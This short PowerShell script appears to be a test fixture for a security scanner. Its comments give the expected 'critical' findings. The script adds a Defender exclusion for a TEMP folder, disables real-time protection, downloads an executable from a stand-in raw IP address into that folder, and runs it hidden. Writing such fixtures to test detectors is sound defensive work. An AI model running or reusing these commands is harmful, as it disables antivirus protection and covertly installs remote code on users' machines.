$ErrorActionPreference = "SilentlyContinue"
$stage = "$env:TEMP\bt"
Add-MpPreference -ExclusionPath $stage # want "critical SV606: excludes .*TEMP.*saves a downloaded program into the excluded folder"
Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true # want "critical SV606: switches off Microsoft Defender protection [(]Set-MpPreference -DisableRealtimeMonitoring.*fetches a program from 203.0.113.7 [(]raw IP"
$u = "http://203.0.113.7/bt/toolchain.exe"
Invoke-WebRequest -Uri $u -OutFile "$stage\toolchain.exe"
Start-Process "$stage\toolchain.exe" -WindowStyle Hidden
